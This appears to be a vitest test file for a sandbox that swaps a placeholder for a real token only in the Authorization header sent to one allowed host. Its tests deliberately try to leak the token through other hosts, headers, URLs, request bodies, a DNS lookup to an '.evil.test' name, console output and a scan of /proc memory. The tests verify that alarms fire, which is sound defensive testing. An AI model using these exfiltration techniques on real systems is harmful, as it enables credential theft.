import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { SandboxProfile } from '../src/index.ts';
import { createLab, createUpstream, finish, type Lab, NODE, type Upstream } from './support.ts';

const NAME = 'api.example.test';
const OTHER = 'other.example.test';
// Put together as it runs: no file that the box may read, this one's compiled copy included, holds it in one piece.
const SECRET = ['the-real-secret', '0123456789abcdef'].join('-');
let upstream: Upstream;
let lab: Lab;

beforeAll(async () => {
  // An echo is the worst server to have: it gives every header back.
  upstream = await createUpstream(
    (request, response) => {
      response.setHeader('x-echo', request.headers['authorization'] ?? '');
      response.end(JSON.stringify(request.headers));
    },
    [NAME, OTHER],
  );
  lab = createLab({
    lookup: () => Promise.resolve([{ address: '127.0.0.1', family: 4 }]),
    secrets: (name) => (name === 'store/token' ? SECRET : undefined),
    upstreamCertificates: upstream.certificate,
  });
});
afterAll(() => {
  upstream.close();
  lab.close();
});

const profile = (): SandboxProfile => ({
  network: {
    allowedDomains: [
      `${NAME}:${upstream.tlsPort}`,
      `${OTHER}:${upstream.tlsPort}`,
      `${NAME}:${upstream.plainPort}`,
      `127.0.0.1:${upstream.tlsPort}`,
      `127.0.0.1:${upstream.plainPort}`,
    ],
  },
  env: { TOKEN: { secret: 'store/token', broker: { host: `${NAME}:${upstream.tlsPort}`, header: 'Authorization' } } },
});
const url = (host = NAME): string => `https://${host}:${upstream.tlsPort}`;
const node = (code: string, more: SandboxProfile = {}) =>
  lab.run({ command: NODE, args: ['-e', code], profile: { ...profile(), ...more } });
const get = (where: string, init: string): string =>
  `fetch('${where}', ${init}).then(async (r) => console.log(r.status, r.headers.get('x-echo'), await r.text()), (e) => console.log('ERR', e.cause?.code))`;
const alarms = (): unknown[] =>
  lab.events
    .filter((event) => event.type === 'placeholder')
    .map(({ variable, where, host }) => ({ variable, where, host }));

describe('the named header of the named host', () => {
  it('gets the real value, and an echo of it does not come back', async () => {
    const { stdout } = await node(get(url(), "{ headers: { authorization: 'Bearer ' + process.env.TOKEN } }"));
    expect(upstream.seen.at(-1)!.headers['authorization']).toBe(`Bearer ${SECRET}`);
    expect(stdout).toMatch(/^200 Bearer skbox[0-9a-f]{40} /);
    expect(stdout).not.toContain(SECRET);
  });
  it('also inside Basic credentials, with a body that arrives whole', async () => {
    await node(
      get(
        url(),
        "{ method: 'POST', body: 'x'.repeat(100000), headers: { authorization: 'Basic ' + Buffer.from('user:' + process.env.TOKEN).toString('base64') } }",
      ),
    );
    expect(Buffer.from(upstream.seen.at(-1)!.headers['authorization']!.slice(6) as string, 'base64').toString()).toBe(
      `user:${SECRET}`,
    );
    expect(upstream.seen.at(-1)!.body.length).toBe(100_000);
  });
  it('works for curl and Python without a setting', async () => {
    const python = `import os, urllib.request; print(urllib.request.urlopen(urllib.request.Request('${url()}/', headers={'Authorization': 'Bearer ' + os.environ['TOKEN']})).status)`;
    expect(
      (
        await lab.run({
          command: '/usr/bin/curl',
          args: ['-sS', '-o', '/dev/null', '-w', '%{http_code}', url()],
          profile: profile(),
        })
      ).stdout,
    ).toBe('200');
    expect((await lab.run({ command: '/usr/bin/python3', args: ['-c', python], profile: profile() })).stdout).toBe(
      '200\n',
    );
    expect(upstream.seen.at(-1)!.headers['authorization']).toBe(`Bearer ${SECRET}`);
  });
});

describe('anywhere else', () => {
  const bearer = "{ headers: { authorization: 'Bearer ' + process.env.TOKEN } }";
  it.each([
    ['another host', () => get(url(OTHER), bearer), 'other-host', OTHER],
    ['another header', () => get(url(), "{ headers: { 'x-other': process.env.TOKEN } }"), 'other-header', NAME],
    ['the URL', () => get(`${url()}/?q=`, '{}').replace("?q='", "?q=' + process.env.TOKEN"), 'url', NAME],
    [
      'the URL in escapes',
      () =>
        get(`${url()}/`, '{}').replace(
          "/'",
          "/' + [...process.env.TOKEN].map((c) => '%' + c.charCodeAt(0).toString(16)).join('')",
        ),
      'url',
      NAME,
    ],
    ['the body', () => get(url(), "{ method: 'POST', body: 'x=' + process.env.TOKEN }"), 'body', NAME],
    [
      'the body in base64',
      () => get(url(), "{ method: 'POST', body: Buffer.from('abc' + process.env.TOKEN).toString('base64') }"),
      'body',
      NAME,
    ],
    ['plain http to the same host', () => get(`http://${NAME}:${upstream.plainPort}/`, bearer), 'other-header', NAME],
    [
      'a name that is looked up',
      () => `require('dns').lookup(process.env.TOKEN + '.evil.test', () => {})`,
      'dns',
      undefined,
    ],
    ['standard output', () => 'console.log(process.env.TOKEN)', 'stdout', undefined],
    [
      'standard error',
      () => 'console.error(process.env.TOKEN.slice(0, 20)); process.stderr.write(process.env.TOKEN)',
      'stderr',
      undefined,
    ],
  ])('%s: an alarm, and the upstream sees neither', async (_what, code, where, host) => {
    const before = upstream.seen.length;
    lab.events.length = 0;
    const { stdout } = await node(code());
    expect(alarms()).toContainEqual({
      variable: 'TOKEN',
      where,
      host: where === 'dns' ? expect.stringContaining('.evil.test') : host,
    });
    expect(JSON.stringify(upstream.seen.slice(before))).not.toMatch(/skbox|the-real-secret/);
    expect(stdout).not.toContain(SECRET);
  });
  it('ends the process if so configured', async () => {
    const strict = createLab({
      lookup: () => Promise.resolve([{ address: '127.0.0.1', family: 4 }]),
      secrets: () => SECRET,
      endOnPlaceholder: true,
    });
    const child = await strict.sandbox.start({
      command: NODE,
      args: ['-e', `${get(url(OTHER), bearer)}; setInterval(() => {}, 1000)`],
      profile: profile(),
    });
    expect(await finish(child)).toMatchObject({ reason: 'placeholder', code: null });
    strict.close();
  });
  it('another Host on the right connection gets 421 and no secret', async () => {
    const { stdout } = await node(
      `require('https').get('${url()}', { servername: '${NAME}', headers: { host: '${OTHER}', authorization: 'Bearer ' + process.env.TOKEN } }, (r) => { console.log(r.statusCode); r.resume(); })`,
    );
    expect(stdout).toBe('421\n');
  });
});

describe('the real value', () => {
  it('is nowhere in the box: environment, files, arguments, memory', async () => {
    // It looks for the beginning, and compares the rest backwards: the search must not find itself.
    const search = `
      const fs = require('fs'); const needle = Buffer.from('the-real-' + 'secret-0123');
      const found = []; let looked = 0;
      const rest = 'fedcba987654';
      const look = (name, bytes) => { looked++; for (let at = bytes.indexOf(needle); at >= 0; at = bytes.indexOf(needle, at + 1)) if ([...rest].every((c, i) => bytes[at + 31 - i] === c.charCodeAt(0))) found.push(name); };
      look('env', Buffer.from(JSON.stringify(process.env)));
      for (const pid of fs.readdirSync('/proc').filter((n) => /^[0-9]+$/.test(n))) for (const f of ['environ', 'cmdline']) try { look(pid + f, fs.readFileSync('/proc/' + pid + '/' + f)); } catch {}
      for (const d of ['/etc', '/tmp', '/home/sandbox']) for (const f of fs.readdirSync(d, { recursive: true })) try { look(d + '/' + f, fs.readFileSync(d + '/' + f)); } catch {}
      const mem = fs.openSync('/proc/self/mem', 'r');
      for (const line of fs.readFileSync('/proc/self/maps', 'utf8').split('\\n')) {
        const m = /^([0-9a-f]+)-([0-9a-f]+) r/.exec(line); if (!m || /vvar|vsyscall/.test(line)) continue;
        const from = parseInt(m[1], 16), to = parseInt(m[2], 16); if (to - from > 2 ** 28) continue;
        for (let at = from; at < to; at += 2 ** 22) { const b = Buffer.alloc(Math.min(2 ** 22 + 64, to - at)); try { look(line, b.subarray(0, fs.readSync(mem, b, 0, b.length, at))); } catch {} }
      }
      console.log(JSON.stringify({ looked, found }));`;
    const { stdout, stderr } = await node(
      `fetch('${url()}', { headers: { authorization: 'Bearer ' + process.env.TOKEN } }).then((r) => r.text()).then(() => { ${search} })`,
    );
    expect(upstream.seen.at(-1)!.headers['authorization']).toBe(`Bearer ${SECRET}`);
    const { looked, found } = JSON.parse(stdout || stderr) as { looked: number; found: string[] };
    expect(looked).toBeGreaterThan(50);
    expect(found).toEqual([]);
  });
  it('has to be for a host that the rules allow, and to exist', async () => {
    const broker = (host: string, secret = 'store/token'): SandboxProfile => ({
      env: { TOKEN: { secret, broker: { host, header: 'authorization' } } },
    });
    await expect(
      lab.sandbox.start({ command: NODE, profile: { ...profile(), ...broker('evil.example.test') } }),
    ).rejects.toMatchObject({ code: 'ERR_SANDBOX_PROFILE_INVALID' });
    await expect(
      lab.sandbox.start({
        command: NODE,
        profile: { ...profile(), ...broker(`${NAME}:${upstream.tlsPort}`, 'nothing') },
      }),
    ).rejects.toMatchObject({ code: 'ERR_SANDBOX_SECRET_UNAVAILABLE' });
  });
});
